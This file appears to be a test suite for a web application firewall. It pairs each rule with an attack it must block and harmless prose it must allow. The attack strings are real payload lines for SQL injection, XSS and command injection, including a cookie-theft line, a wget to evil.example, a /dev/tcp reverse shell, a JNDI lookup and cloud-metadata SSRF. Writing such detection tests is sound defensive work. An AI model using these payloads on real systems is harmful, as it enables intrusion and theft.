// Each rule, by id: one attack it must catch and the nearest prose it must let through.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { normalize } from "../../../src/core/waf/decode.ts";
import { compileWaf, listWafRules, type WafMatch } from "../../../src/core/waf/index.ts";
import { WAF_RULES } from "../../../src/core/waf/rules.ts";
import { ATTACKS } from "./attack-corpus.ts";
import { BENIGN_TEXTS } from "./benign-corpus.ts";

const waf = compileWaf();
const inBody = (text: string): WafMatch | null => waf.inspect({ path: "/", query: "", headers: {}, body: { v: text } });
const inQuery = (text: string): WafMatch | null => waf.inspect({ path: "/", query: `v=${encodeURIComponent(text)}`, headers: {} });
/** CRLF rules read only what can reach a response head; every other rule is tried in a body. */
const inspectFor = (id: string) => (id.startsWith("crlf-") ? inQuery : inBody);

/** rule id → [an attack it catches, prose next to it that must pass]. */
const CASES: Record<string, [attack: string, nearMiss: string]> = {
  "nosqli-001": ['{"$where": "this.role == 1"}', "($where: UserFilter) is a GraphQL variable"],
  "nosqli-002": ["password[$ne]=", "price[gte]=10 costs $5 in total; $in or $out?"],
  "ssti-001": ["{{4*4}}", "Dear {{name}}, your order {{ order.id }} has shipped"],
  "ssti-002": ["${7*7}", "Your total is ${total} (${count} items)"],
  "ssti-003": ["{% import os %}", "{% if user %}Hello{% endif %}"],
  "crlf-001": ["%0d%0aSet-Cookie:admin=1", "line one\nline two"],
  "sqli-001": ["1' or 1=1", "Order 1 or 2 units = fine"],
  "sqli-002": ["x' or 'a'='a", "Tickets for 'A' or 'B' = same price"],
  "sqli-003": ["admin' or true--", "Is it 'fake' or real?"],
  "sqli-004": ["' and 2>1--", "She said 'yes' and left -- happy"],
  "sqli-005": ["0 union all select null,null", "Our union select committee meets on Fridays."],
  "sqli-006": ["x'; drop table users", "At 10; delete from calendar if not needed"],
  "sqli-007": ["admin'/*", "It's 'great' -- love it"],
  "sqli-008": ["1 and sleep(5)", "I need more sleep (8 hours at least)."],
  "sqli-009": ["1 and 1=(select count(*) from sqlite_master)", "Master the schema of information design"],
  "sqli-010": ["1 and load_file('/etc/hosts')", "Please load the file into the shared drive"],
  "sqli-011": ["x' or (select 1)", "Size 'M' (select one colour)"],
  "sqli-012": ["1' order by 3--", "Sort the order by date please"],
  "sqli-013": ["char(117,110,105,111,110)", "Chair (oak), 2 pieces"],
  "xss-001": ["</title><script>", "My movie script (draft 3) is attached"],
  "xss-002": ["<video src=1 oncanplay=alert(1)>", "<p>Available online only</p>"],
  "xss-003": ["x\" onfocus=\"alert(1)\" autofocus=\"", "Turn on error reporting: error=verbose"],
  "xss-004": ["vbscript:msgbox(1)", "JavaScript: The Good Parts"],
  "xss-005": ["data:text/html,<b>", "data: text and html in one report"],
  "xss-006": ["<embed src=//evil.example/x>", "Embed the video on your page"],
  "xss-007": ["<button formaction=//evil.example>", "The form action is 'submit'"],
  "xss-008": ["<p style=\"x:expression(alert(1))\">", "Facial expression (smile) matters"],
  "xss-009": ["\";alert(1)//", "Say \"alert\" (loudly)"],
  "xss-010": ["new Image().src='//e.example/?c='+document.cookie", "Document cookie policy updated"],
  "cmdi-001": ["x|whoami", "Who am I? A question for philosophers."],
  "cmdi-002": ["1.1.1.1 && pwd", "Enter your new pwd & confirm"],
  "cmdi-003": ["x; head -n 5 /etc/hosts", "Home | More info"],
  "cmdi-004": ["x; wget evil.example", "Tom & ping me later"],
  "cmdi-005": ["x | bash", "Skills: React & Node"],
  "cmdi-006": ["$(/bin/true)", "$(5) discount"],
  "cmdi-007": ["x;${IFS}id", "Price $ IFS rate"],
  "cmdi-008": ["0<&196;exec 196<>/dev/tcp/203.0.113.9/4444", "Development TCP notes"],
  "cmdi-009": ["x; /b??/c?t /e??/h?sts", "/orders/list?page=2"],
  "cmdi-010": ["x && sleep 15", "Set an alarm; sleep 8 hours"],
  "cmdi-011": ["${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}", "Template: Hello ${name}, your total is ${total}"],
  "ssrf-001": ["gopher://10.0.0.1:25/_HELO", "I love the gopher mascot"],
  "ssrf-002": ["http://169.254.169.254/latest/", "https://203.0.113.10:8443/status"],
  "traversal-001": ["..\\..\\boot.ini", "Versions 1.2..1.4 are affected"],
  "traversal-002": ["/proc/self/environ", "Proceed to self-checkout"],
  "traversal-003": ["report.pdf\u0000.exe", "report.pdf"],
};

describe("WAF rules", () => {
  it("have unique ids, a known class, a description and a CWE", () => {
    const rules = listWafRules();
    assert.equal(new Set(rules.map((r) => r.id)).size, rules.length);
    for (const rule of rules) {
      assert.match(rule.id, /^(sqli|nosqli|xss|ssti|cmdi|ssrf|crlf|traversal)-\d{3}$/);
      assert.equal(rule.id.split("-")[0], rule.class);
      assert.match(rule.cwe, /^CWE-\d+$/);
      assert.ok(rule.description.length > 10);
    }
  });

  it("each have a case below", () => {
    assert.deepEqual(listWafRules().map((r) => r.id).sort(), Object.keys(CASES).sort());
  });

  for (const [id, [attack, nearMiss]] of Object.entries(CASES)) {
    it(`${id} catches ${JSON.stringify(attack)} and lets ${JSON.stringify(nearMiss)} through`, () => {
      assert.equal(inspectFor(id)(attack)?.ruleId, id);
      assert.equal(inspectFor(id)(nearMiss), null);
    });
  }
});

describe("WAF rule gates", () => {
  // A rule is only tried on values holding the characters of one of its `needs` literals. If a
  // pattern could match without one, the gate would silently switch the rule off for that input.
  it("never hide a value a rule's pattern matches", () => {
    const samples = [...Object.values(ATTACKS).flat(), ...BENIGN_TEXTS, ...Object.values(CASES).flat()];
    const wrong: string[] = [];
    for (const sample of samples) {
      for (const form of [false, true]) {
        const views = normalize(sample, form);
        for (const rule of WAF_RULES) {
          const view = views.view(rule.view);
          if (rule.find(view) && !rule.needs.some((literal) => view.includes(literal))) wrong.push(`${rule.id}: ${sample}`);
        }
      }
    }
    assert.deepEqual(wrong, []);
  });
});

describe("WAF SSRF host spellings", () => {
  const internal = [
    "http://127.0.0.1/", "http://127.255.255.254/", "http://0.0.0.0/", "http://169.254.169.254/",
    "http://2130706433/", "http://0x7f000001/", "http://0x7f.1/", "http://0177.0.0.1/", "http://017700000001/",
    "http://127.000.000.001/", "http://127.1/", "http://0/", "http://[::1]/", "http://[0:0:0:0:0:0:0:1]/",
    "http://[::]/", "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://[fe80::1%25eth0]/",
    "http://[64:ff9b::7f00:1]/", "http://localhost/", "http://LOCALHOST./", "http://app.localhost/",
    "http://metadata.google.internal/", "http://metadata/", "http://instance-data/", "http://kubernetes.default.svc/",
    "http://localtest.me/", "http://127-0-0-1.nip.io/", "http://127.0.0.1.sslip.io/", "http://u:p@127.0.0.1:80/",
    "http://evil.example@localhost/", "http://evil.example@localhost:80@evil.example/", "http:127.0.0.1/", "http://0x/",
    "http:/127.0.0.1/", "https:\\\\127.0.0.1", "ws://localhost:9229/", "http://127。0。0。1/", "(//localhost/x)",
  ];
  for (const url of internal) {
    it(`flags ${url}`, () => assert.equal(inBody(url)?.ruleId, "ssrf-002"));
  }

  const external = [
    "http://203.0.113.7/", "https://example.com/", "http://10.0.0.5:8080/hook", "http://192.168.1.1/",
    "http://[2001:db8::1]/", "https://127.0.0.1.example.com/", "http://1.2.3.4.nip.io/", "http://256.0.0.1/",
    "http://localhost.example.com/", "mailto:localhost@example.com", "x-forwarded-for: 127.0.0.1",
    "note:127.0.0.1", "https://example.com/?next=127.0.0.1",
  ];
  for (const value of external) {
    it(`does not flag ${value}`, () => assert.equal(inBody(value), null));
  }
});
